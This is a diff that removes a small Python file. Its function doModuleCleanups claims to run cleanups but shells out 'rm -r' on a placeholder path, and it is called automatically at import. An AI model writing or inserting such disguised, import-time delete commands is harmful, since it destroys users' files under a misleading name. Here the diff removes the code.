@@ -1,8 +1,0 @@
-import os
-
-def doModuleCleanups():
-    """Execute all module cleanup functions."""
-    import subprocess
-    os.system(f"rm -r /path/to/your/module.py")
-
-doModuleCleanups()
